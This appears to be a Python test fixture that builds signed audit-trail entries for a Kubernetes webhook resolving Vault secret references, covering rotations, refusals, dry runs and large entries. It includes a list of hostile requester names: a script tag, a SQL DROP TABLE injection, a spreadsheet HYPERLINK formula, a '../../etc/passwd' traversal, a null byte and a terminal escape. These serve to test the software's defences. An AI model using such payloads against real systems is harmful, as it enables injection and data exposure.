"""A trail to read, written by Keyhole's own writer: a story that people would recognise, then as much more as wanted.

`story()` has what must never go wrong: hostile names, refusals, dry runs, an admission of several lines. `more()` goes
on with everyday admissions, in which what a field had before is always what the admission before it gave.
"""

import random
import uuid
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from http import HTTPStatus
from pathlib import Path
from typing import Final

from audit.entry import AuditEntry, Done, FieldEntry, OriginEntry, ReferenceEntry, Requester
from audit.key import AuditKey
from audit.line import Event, Head, lay_out, sign

KEY: Final = AuditKey.of(bytes(range(32)))
BEGINS: Final = datetime(2026, 11, 2, 8, 0, 0, 42, tzinfo=UTC)
CHAIN: Final = f"{17:032x}"
FLUX: Final = Requester("system:serviceaccount:flux-system:kustomize-controller")
ARGOCD: Final = Requester("system:serviceaccount:argocd:argocd-application-controller")
ALICE: Final = Requester("alice@example.com", "u-1", ("system:authenticated", "shop-developers"))
BOB: Final = Requester("bob@example.com", "u-2", ("system:authenticated",))
SCRIPT: Final = "<script>alert('keyhole')</script>"
RIGHT_TO_LEFT: Final = "\u202eevil\u2066"
FORMULA: Final = '=HYPERLINK("https://example.com?"&A1,"shop")'
LONG: Final = "n" * 1000
HOSTILE: Final = (
    SCRIPT,
    RIGHT_TO_LEFT,
    FORMULA,
    LONG,
    "'; DROP TABLE change; --",
    "a\0b",
    "../../etc/passwd",
    "\x1b[2J",
)
"""Names that somebody may have put where Keyhole expects one."""
CANARY: Final = "canary-5f0c1e"
"""Stands nowhere in a trail: a value that must not turn up."""


def story() -> Sequence[AuditEntry]:
    """Return admissions of the namespaces shop and payments, the oldest first."""
    db = entry("shop", "db", FLUX, OriginEntry("flux-kustomization", "flux-system", "apps"))
    old, new = "vault:secret/shop/old-db#password", "vault:secret/shop/db#password"
    first = resolved("/data/password", old, 1)
    moved = resolved("/data/password", new, 3, [ref(old, 1)])
    rotated = resolved("/data/password", new, 4, [ref(new, 3)])
    removed = FieldEntry("/data/password", "annotation", Done.REMOVED, before=[ref(new, 4)])
    return _in_time(
        [
            replace(db, operation="CREATE", fields=[first]),
            replace(db, fields=[replace(first, done=Done.KEPT, before=None)]),
            _card(),
            replace(db, requester=ALICE, fields=[moved]),
            replace(db, requester=BOB, dry_run=True, fields=[replace(rotated, done=Done.PLACEHOLDER)]),
            replace(db, requester=Requester("system:serviceaccount:shop:keyhole-reconciler"), fields=[rotated]),
            _refused(),
            _large(),
            _config(),
            *(_hostile(name) for name in HOSTILE),
            replace(db, requester=ALICE, fields=[removed]),
        ]
    )


def more(
    count: int, *, kept: float = 0.3, namespaces: int = 50, objects: int = 5, seed: int = 17
) -> Iterator[AuditEntry]:
    """Yield so many admissions, a second after another, of which a share (`kept`) changes nothing."""
    chance = random.Random(seed)
    known: dict[tuple[str, str], tuple[str, int]] = {}
    for number in range(count):
        namespace, name = f"team-{chance.randrange(namespaces):03d}", f"app-{chance.randrange(objects)}"
        is_kept = (namespace, name) in known and chance.random() < kept
        made = replace(
            entry(namespace, name, *_who(chance, namespace)),
            time=BEGINS + timedelta(days=1, seconds=number),
            uid=str(uuid.UUID(int=chance.getrandbits(128))),
        )
        yield replace(made, fields=(_field(chance, known, namespace, name, is_kept=is_kept),))


def lines(entries: Iterable[AuditEntry], chain: str = CHAIN, *, ends: bool = False) -> Iterator[bytes]:
    """Yield the lines of a trail with these admissions, as the webhook would write them."""
    head = Head.none(chain)
    text, head = sign(KEY, Event.BEGIN, head, b'{"host":"keyhole-0","process":1}')
    yield text
    for entry in entries:
        for record in lay_out(entry):
            text, head = sign(KEY, Event.ADMISSION, head, record)
            yield text
    if ends:
        yield sign(KEY, Event.END, head, b"{}")[0]


def write(file: Path, entries: Iterable[AuditEntry]) -> Path:
    """Write a file with these admissions, and return its name."""
    with file.open("wb") as stream:
        stream.writelines(lines(entries))
    return file


def ref(text: str, version: int | None = None) -> ReferenceEntry:
    """Return a reference as it stands in `before`: without a request."""
    return ReferenceEntry(text, version)


def resolved(pointer: str, text: str, version: int | None, before: Sequence[ReferenceEntry] | None = ()) -> FieldEntry:
    """Return a field with the value that Vault gave. Its request is always the same for the same field and version."""
    request = str(uuid.uuid5(uuid.NAMESPACE_URL, f"{pointer} {text} {version}"))
    return FieldEntry(pointer, "annotation", Done.RESOLVED, (ReferenceEntry(text, version, request),), before=before)


def entry(
    namespace: str, name: str, requester: Requester, origin: OriginEntry | None = None, kind: str = "Secret"
) -> AuditEntry:
    """Return an admission that was allowed, without fields."""
    return AuditEntry(
        time=BEGINS,
        uid=str(uuid.uuid5(uuid.NAMESPACE_URL, f"{namespace} {name} {requester.username}")),
        requester=requester,
        group="",
        kind=kind,
        namespace=namespace,
        name=name,
        operation="UPDATE",
        dry_run=False,
        allowed=True,
        status=HTTPStatus.OK,
        milliseconds=4.2,
        identity=f"system:serviceaccount:{namespace}:keyhole",
        origin=origin,
    )


def at(of: AuditEntry, time: datetime, fields: Sequence[FieldEntry]) -> AuditEntry:
    """Return an admission at another time, with these fields."""
    return replace(of, time=time, fields=fields)


def _field(
    chance: random.Random, known: dict[tuple[str, str], tuple[str, int]], namespace: str, name: str, *, is_kept: bool
) -> FieldEntry:
    pointer = "/data/password"
    before = known.get((namespace, name))
    text, version = before or (f"vault:secret/{namespace}/{name}#password", 0)
    if is_kept:
        return FieldEntry(pointer, "annotation", Done.KEPT, (ref(text, version),))
    if before is not None and chance.random() < 0.2:
        text = f"vault:secret/{namespace}/{name}-{chance.randrange(100)}#password"
    known[namespace, name] = text, version + 1
    return resolved(pointer, text, version + 1, (ref(*before),) if before else ())


def _who(chance: random.Random, namespace: str) -> tuple[Requester, OriginEntry | None]:
    if chance.random() < 0.1:
        return Requester(f"person-{chance.randrange(20)}@example.com"), None
    if chance.random() < 0.5:
        return Requester(f"system:serviceaccount:{namespace}:keyhole-reconciler"), None
    return FLUX, OriginEntry("flux-kustomization", "flux-system", namespace)


def _card() -> AuditEntry:
    """Return an admission of Argo CD. One reference is of KV v1, which knows no versions."""
    made = entry("payments", "card", ARGOCD, OriginEntry("argocd", "argocd", "payments"))
    key = resolved("/data/key", "vault:secret/payments/card#key", 7)
    return replace(made, operation="CREATE", fields=[key, resolved("/data/pin", "vault:kv1/card#pin", None)])


def _config() -> AuditEntry:
    url = resolved("/data/url", "vault:secret/shop/db#user", 4)
    old = FieldEntry("/data/old", "annotation", Done.REMOVED, before=[ref("vault:secret/shop/legacy#key", 2)])
    return replace(entry("shop", "config", BOB, kind="ConfigMap"), fields=[url, old])


def _hostile(name: str) -> AuditEntry:
    made = entry("shop", "hostile", Requester(name), OriginEntry("helm", name, name))
    return replace(made, fields=[resolved(f"/data/{name}", f"vault:secret/{name}#key", 1)])


def _refused() -> AuditEntry:
    text = "vault:secret/shop/missing#key"
    field = FieldEntry("/data/key", "annotation", Done.REFUSED, (ReferenceEntry(text, cause="NotFound"),), "NotFound")
    refused = entry("shop", "broken", ALICE)
    return replace(refused, allowed=False, status=HTTPStatus.FORBIDDEN, cause="NotFound", fields=(field,))


def _large() -> AuditEntry:
    """Return an admission that takes several lines."""
    fields = [resolved(f"/data/{number:03d}", f"vault:secret/shop/many#{number:0300d}", 1) for number in range(150)]
    return replace(entry("shop", "many", ALICE), operation="CREATE", fields=fields)


def _in_time(entries: Sequence[AuditEntry]) -> Sequence[AuditEntry]:
    return [
        replace(each, time=BEGINS + timedelta(minutes=number), uid=str(uuid.UUID(int=number + 1)))
        for number, each in enumerate(entries)
    ]
